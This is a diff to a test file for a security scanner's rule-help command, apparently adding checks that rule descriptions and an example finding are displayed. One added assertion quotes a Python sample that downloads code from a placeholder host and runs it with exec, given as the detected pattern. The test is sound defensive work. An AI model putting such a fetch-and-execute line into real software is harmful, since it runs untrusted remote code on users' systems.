@@ -31,8 +31,16 @@ describe("rulesCommand", () => {
 			expect(words).toContain(rule.title);
 			expect(words).toContain(rule.why.replace(/\s+/g, " "));
 			expect(words).toContain(rule.lookalikes.replace(/\s+/g, " "));
-			for (const technique of rule.attack) expect(words).toContain(technique);
+			for (const technique of rule.attack) expect(words).toContain(`${technique} `);
+			expect(words).toContain("How to silence a finding");
 		}
+	});
+
+	it("shows an example, and what is said of it", () => {
+		const { text } = run("execution-of-downloaded");
+		expect(text).toContain("Found in specimen/__init__.py");
+		expect(text).toContain('  exec(requests.get("https://example.com/a.py").text)\n');
+		expect(text).toMatch(/It says, for example\n {2}- \S/);
 	});
 
 	it("says that there is no such rule, and which are alike", () => {
